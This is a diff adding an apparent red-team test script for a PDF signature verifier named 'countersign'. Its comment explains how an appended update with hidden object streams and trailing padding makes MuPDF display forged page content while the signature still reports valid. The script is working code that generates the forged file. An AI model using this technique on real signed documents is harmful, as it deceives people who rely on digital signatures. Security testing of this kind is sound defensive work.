@@ -1,0 +1,37 @@
+# Red-team finding (2026-12-07, round 2): after any honest signed file, an update that only adds
+# two unreferenced objects, followed by 2000 newlines (or a 1100-byte % comment, or NULs),
+# makes MuPDF render forged content on page 1 while countersign says VALID, level none.
+# - The 32-byte bound on bytes after the end applies only when nothing was appended after
+#   signing (src/verify/diff/mod.rs `judge`, the `later == 0` branch); with a later revision
+#   any bytes may follow its %%EOF (appended::check scans them only for `N G obj` headers).
+#   MuPDF looks for startxref in the last 1024 bytes only, then rebuilds the xref by scanning.
+# - The added object stream holds a new copy of page 3 0 (/Contents -> the added stream).
+#   No xref entry uses the stream, so src/verify/diff/appended.rs `check_object_streams` never
+#   opens it and `check_object_headers` does not look inside streams; MuPDF's repair reads
+#   every object stream it finds and its objects replace the ones found by scanning.
+# pdfsig still lists Signature1 as valid; pdftotext still shows "Page 1".
+# Usage: python3 redteam_later_revision_objstm_repair.py COUNTERSIGN CLASSIC_PDF OUTDIR
+#   then: countersign verify OUTDIR/forged.pdf --trust testdata/pki/root-ca.cert.pem --json
+#         mutool draw -F txt OUTDIR/forged.pdf 1     (prints "Forged")
+import re, subprocess, sys
+exe, classic, out = sys.argv[1], sys.argv[2], sys.argv[3]
+subprocess.run([exe, "sign", classic, "-o", f"{out}/signed.pdf"], check=True)
+d = open(f"{out}/signed.pdf", "rb").read()
+prev = int(re.findall(rb"startxref\s+(\d+)", d)[-1])
+size = int(re.findall(rb"/Size (\d+)", d)[-1])
+S, C = size, size + 1  # the added object stream and the added content stream
+head = b"3 0 "
+page = head + (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
+               b"/Resources << /Font << /F1 5 0 R >> >> /Contents %d 0 R >>" % C)
+body = b"BT /F1 24 Tf 72 720 Td (Forged) Tj ET"
+f = bytearray(d)
+o1 = len(f)
+f += b"%d 0 obj\n<< /Type /ObjStm /N 1 /First %d /Length %d >>\nstream\n" % (S, len(head), len(page))
+f += page + b"\nendstream\nendobj\n"
+o2 = len(f)
+f += b"%d 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (C, len(body), body)
+x = len(f)
+f += (b"xref\n%d 2\n%010d 00000 n \n%010d 00000 n \ntrailer\n<< /Size %d /Root 1 0 R /Prev %d >>\n"
+      b"startxref\n%d\n%%%%EOF\n" % (S, o1, o2, size + 2, prev, x))
+f += b"\n" * 2000
+open(f"{out}/forged.pdf", "wb").write(f)
